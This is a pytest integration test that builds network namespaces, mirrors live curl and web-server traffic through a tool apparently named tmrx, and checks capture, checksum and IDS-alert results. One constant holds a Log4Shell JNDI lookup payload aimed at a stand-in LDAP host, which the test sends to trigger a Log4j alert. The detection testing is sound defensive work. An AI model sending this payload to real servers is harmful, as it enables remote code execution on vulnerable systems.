"""A real workload in network namespaces, mirrored live: curl and a web server, `tmrx send iface:…`, `tmrx listen`.

client ── veth, offloads on ── server
   └───── veth, jumbo ──────── monitor
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parents[2]
ENV = {**os.environ, "PYTHONPATH": str(ROOT), "NO_COLOR": "1"}
TOOLS = ("ip", "curl")
CLIENT, SERVER, MONITOR = "10.99.0.1", "10.99.0.2", "10.98.0.9"
MAC = "02:00:00:99:00:01"
SIZE = 3_000_000
ATTACK = "User-Agent: ${jndi:ldap://192.0.2.66/a}"


def can_make_namespaces() -> bool:
    made = all(map(shutil.which, TOOLS)) and os.geteuid() == 0
    return made and subprocess.run(["unshare", "-n", "true"], capture_output=True, check=False).returncode == 0


pytestmark = [
    pytest.mark.needs_netns,
    pytest.mark.skipif(not can_make_namespaces(), reason=f"needs root, namespaces and {', '.join(TOOLS)}"),
]


class Net:
    """Namespaces that are removed again; `ip("client", …)` runs ip(8) in one of them."""

    def __init__(self) -> None:
        self.names = {role: f"tmrx-{role}-{os.getpid()}" for role in ("client", "server", "monitor")}

    def inside(self, role: str, *command: str) -> list[str]:
        return ["ip", "netns", "exec", self.names[role], *command]

    def ip(self, role: str, text: str) -> None:
        subprocess.run(["ip", "-n", self.names[role], *text.split()], check=True, capture_output=True)

    def link(self, near: tuple[str, str, str], far: tuple[str, str, str], mtu: int) -> None:
        """A veth pair; an end is (role, device, address)."""
        self.ip(near[0], f"link add {near[1]} type veth peer name {far[1]} netns {self.names[far[0]]}")
        for role, device, address in (near, far):
            self.ip(role, f"addr add {address}/24 dev {device}")
            self.ip(role, f"link set {device} mtu {mtu}")
        self.ip(near[0], f"link set {near[1]} up")
        self.ip(far[0], f"link set {far[1]} up")


@pytest.fixture
def net() -> Iterator[Net]:
    made = Net()
    try:
        for name in made.names.values():
            subprocess.run(["ip", "netns", "add", name], check=True)
        for role in made.names:
            # No neighbour discovery: only what the test sends.
            off = "for scope in all default; do echo 1 >/proc/sys/net/ipv6/conf/$scope/disable_ipv6; done"
            subprocess.run(made.inside(role, "sh", "-c", off), check=True)
        made.link(("client", "eth0", CLIENT), ("server", "eth0", SERVER), 1500)
        made.ip("client", f"link set eth0 address {MAC}")
        made.link(("client", "mon0", "10.98.0.1"), ("monitor", "eth0", MONITOR), 9001)
        for role in made.names:
            made.ip(role, "link set lo up")
        yield made
    finally:
        for name in made.names.values():
            subprocess.run(["ip", "netns", "del", name], check=False)


@contextmanager
def running(command: list[str], folder: Path, name: str) -> Iterator[subprocess.Popen[bytes]]:
    with (folder / f"{name}.log").open("wb") as log:
        process = subprocess.Popen(command, cwd=folder, env=ENV, stdout=log, stderr=log)
        try:
            yield process
        finally:
            if process.poll() is None:
                process.kill()
            process.wait()


def tmrx(*args: str) -> list[str]:
    return [sys.executable, "-m", "tmrx", *args]


def mirror(folder: Path) -> str:
    everything = [{"RuleNumber": 10, "RuleAction": "accept"}]
    described = {
        "NetworkInterfaces": [
            {"NetworkInterfaceId": "eni-client", "PrivateIpAddress": CLIENT, "MacAddress": MAC},
            {"NetworkInterfaceId": "eni-monitor", "PrivateIpAddress": MONITOR},
        ],
        "TrafficMirrorTargets": [{"TrafficMirrorTargetId": "tmt-1", "NetworkInterfaceId": "eni-monitor"}],
        "TrafficMirrorFilters": [
            {
                "TrafficMirrorFilterId": "tmf-1",
                "IngressFilterRules": everything,
                "EgressFilterRules": everything,
            }
        ],
        "TrafficMirrorSessions": [
            {
                "TrafficMirrorSessionId": "tms-live",
                "TrafficMirrorTargetId": "tmt-1",
                "TrafficMirrorFilterId": "tmf-1",
                "NetworkInterfaceId": "eni-client",
                "SessionNumber": 1,
                "VirtualNetworkId": 99,
            }
        ],
    }
    path = folder / "mirror.json"
    path.write_text(json.dumps(described))
    return str(path)


def until(done: Any, what: str, seconds: float = 15) -> None:
    end = time.monotonic() + seconds
    while not done():
        assert time.monotonic() < end, f"waited in vain for {what}"
        time.sleep(0.05)


def lengths(pcap: Path) -> list[int]:
    """The frames' lengths."""
    data, at, found = pcap.read_bytes(), 24, []
    while at < len(data):
        (captured,) = struct.unpack_from("<I", data, at + 8)
        found.append(captured)
        at += 16 + captured
    return found


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_a_workload_is_mirrored_live(net: Net, tmp_path: Path) -> None:
    (tmp_path / "big").write_bytes(os.urandom(SIZE))
    config = mirror(tmp_path)
    with ExitStack() as stack:
        serve = [sys.executable, "-u", "-m", "http.server", "80", "--bind", SERVER]
        stack.enter_context(running(net.inside("server", *serve), tmp_path, "serve"))
        options = ["--mirror", config, "-S", str(ROOT / "rules"), "--eve", "eve.json", "-w", "got.pcap"]
        listen = tmrx("listen", *options, "--stats", "stats.json")
        receiver = stack.enter_context(running(net.inside("monitor", *listen), tmp_path, "listen"))
        until(lambda: b"listening" in (tmp_path / "listen.log").read_bytes(), "the receiver")
        send = tmrx("send", "iface:eth0", "--mirror", config, "--to", "targets", "--truth", "truth.json")
        sender = stack.enter_context(running(net.inside("client", *send), tmp_path, "send"))

        def curl(path: str, *options: str) -> bytes:
            command = net.inside("client", "curl", "-sS", "--max-time", "10", *options, f"http://{SERVER}{path}")
            return subprocess.run(command, check=True, capture_output=True).stdout

        until(lambda: b"HTTP" in (tmp_path / "serve.log").read_bytes(), "the web server")
        # What the first requests bring is mirrored as soon as both ends run.
        until(lambda: curl("/") and (tmp_path / "got.pcap").exists() and len(lengths(tmp_path / "got.pcap")), "a copy")
        assert len(curl("/big")) == SIZE
        curl("/", "-H", ATTACK)
        until(lambda: "Log4j" in (tmp_path / "eve.json").read_text(), "the alert")
        for process in (sender, receiver):
            process.send_signal(signal.SIGINT)
            assert process.wait(15) == 0
    check(tmp_path)


def check(folder: Path) -> None:
    """What both ends say of it."""
    truth, stats = lines(folder / "truth.json"), json.loads((folder / "stats.json").read_text())
    fates = Counter(line["fate"] for line in truth)
    report = (folder / "send.log").read_text()
    assert fates["mirrored"] == stats["frames"]["received"] > SIZE / 1460, report
    assert fates["mirrored"] + fates["excluded"] == len(truth), "nothing but the neighbours' ARP is left out"
    assert {line["source"] for line in truth} == {"eni-client"}
    assert max(lengths(folder / "got.pcap")) == 1514, "super-frames were cut to what the wire carries"
    checksums = stats["packets"]["checksum"]
    assert checksums["l4"]["valid"] >= stats["packets"]["tcp"] > SIZE / 1460, checksums
    assert checksums["l4"]["bad"] == checksums["l4"]["not_calculated"] == 0, checksums
    assert [session["session"] for session in stats["sessions"]] == ["tms-live"]
    alerts = [event for event in lines(folder / "eve.json") if event["event_type"] == "alert"]
    assert any("Log4j" in event["alert"]["signature"] for event in alerts), alerts
    assert stats["anomalies"] == {}, stats["anomalies"]
